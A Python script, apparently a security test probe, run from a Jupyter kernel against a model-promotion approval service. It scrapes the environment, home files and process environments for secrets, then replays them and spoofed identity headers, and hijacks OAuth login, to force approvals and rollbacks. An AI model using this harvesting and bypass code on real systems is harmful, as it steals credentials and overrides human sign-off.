# Runs in a kernel of a reviewer's own server, with nothing but what is there: argv is SERVICE, HUB
# and the promotion's id, as JSON in ATTACK. Prints what it tried and what was not refused.
import contextlib
import json
import os
import re
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

SERVICE, HUB, IDENT, SESSION = ATTACK  # noqa: F821
HOST = urllib.parse.urlsplit(SERVICE)
ORIGIN = f"{HOST.scheme}://{HOST.netloc}"


def read(place):
    with contextlib.suppress(OSError):
        return Path(place).read_bytes()[:200_000].decode("utf-8", "replace")
    return ""


def found_secrets():
    """Every word that may be a secret in the environment, this user's files and processes."""
    starts = filter(None, [os.path.expanduser("~"), os.environ.get("JUPYTER_RUNTIME_DIR", "")])
    places = [
        Path(at, name) for start in starts for at, _, names in os.walk(start) for name in names
    ]
    places += [f"/proc/{pid}/environ" for pid in (os.getpid(), os.getppid())]
    texts = [json.dumps(dict(os.environ)), *map(read, places)]
    words = set()
    for text in texts:
        words |= set(re.findall(r"[A-Za-z0-9_\-]{20,120}", text))
    named = [os.environ[key] for key in os.environ if "TOKEN" in key or "SECRET" in key]
    return sorted(set(named)), sorted(words)


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *args):
        return None


OPENER = urllib.request.build_opener(NoRedirect)


def send(method, url, headers, body=None):
    request = urllib.request.Request(url, method=method, headers=headers, data=body)
    try:
        with OPENER.open(request, timeout=30) as answer:
            return answer.status, dict(answer.headers), answer.read(2000).decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, dict(error.headers), error.read(2000).decode("utf-8", "replace")


named, words = found_secrets()
YES = json.dumps({"decision": "approve"}).encode()
NO = json.dumps({"decision": "reject", "comment": "x"}).encode()
WISH = {"name": "churn", "version": "1.0.0", "environment": "production", "reason": "x"}
BACK = json.dumps({**WISH, "environment": "dev"}).encode()
JSON = {"Content-Type": "application/json"}
XSRF = {"X-XSRFToken": "abcdef", "Origin": ORIGIN, "Sec-Fetch-Site": "same-origin"}
DECISION = f"{SERVICE}jupyter-modelpack/promotions/{IDENT}/decision"
ROUTES = [
    (DECISION, YES),
    (DECISION, NO),
    (f"{SERVICE}jupyter-modelpack/rollbacks", BACK),
    (f"{SERVICE}jupyter-modelpack/policy", b'{"reason": "x"}'),
    (f"{SERVICE}jupyter-modelpack/pages/promotions/{IDENT}", b"decision=approve"),
]
tried, through = [], []


def attempt(way, url, body, headers):
    status, _, text = send("POST", url, {**JSON, **headers}, body)
    tried.append(way)
    if status < 400:
        through.append((way, url, status, text[:200]))


def ways(secret):
    cookies = (SESSION, "jupyterhub-hub-login", "jupyterhub-session-id", "_modelpack_xsrf")
    yield "token", {"Authorization": f"token {secret}"}
    yield "bearer", {"Authorization": f"Bearer {secret}"}
    yield "token, as a page", {"Authorization": f"token {secret}", **XSRF}
    for cookie in cookies:
        yield f"cookie {cookie}", {"Cookie": f"{cookie}={secret}; _modelpack_xsrf=abcdef", **XSRF}
    yield "proxy", {"kubeflow-userid": "rita", "x-modelpack-proxy-secret": secret, **XSRF}


for secret in named:
    for url, body in ROUTES:
        for way, headers in ways(secret):
            attempt(way, url, body, headers)
        attempt("query", f"{url}?token={secret}", body, {})
# whatever else lies about may be one too
for secret in words[:400]:
    attempt("found", DECISION, YES, {"Authorization": f"token {secret}"})
attempt("nothing", DECISION, YES, {})
attempt("a name", DECISION, YES, {"kubeflow-userid": "rita", "X-Forwarded-User": "rita", **XSRF})
attempt("override", f"{DECISION}?_method=POST", YES, {"X-HTTP-Method-Override": "POST", **XSRF})

# a login of its own: begin it here, and ask the Hub to finish it with the token
for secret in named:
    for scheme in ("token", "Bearer"):
        bearer = {"Authorization": f"{scheme} {secret}"}
        status, headers, _ = send("GET", f"{SERVICE}login", {})
        state = headers.get("Set-Cookie", "").split(";")[0]
        status, headers, _ = send("GET", headers["Location"], bearer)
        target = headers.get("Location", "")
        tried.append("own login")
        if target.startswith(f"{SERVICE}oauth_callback"):
            status, headers, _ = send("GET", target, {"Cookie": state})
            if SESSION in headers.get("Set-Cookie", ""):
                cookie = headers["Set-Cookie"].split(";")[0]
                head = {"Cookie": f"{cookie}; _modelpack_xsrf=abcdef", **XSRF}
                attempt("own login", DECISION, YES, head)
                through.append(("own login", target, status, "a session"))
        # or with the code that the Hub gives for another client
        code = urllib.parse.parse_qs(urllib.parse.urlsplit(target).query).get("code", ["x"])[0]
        place = f"{SERVICE}oauth_callback?code={code}&state=x"
        status, headers, _ = send("GET", place, {"Cookie": state})
        tried.append("own code")
        if SESSION in headers.get("Set-Cookie", ""):
            through.append(("own code", place, status, "a session"))
print("RESULT", json.dumps({"named": len(named), "tried": tried, "through": through}))
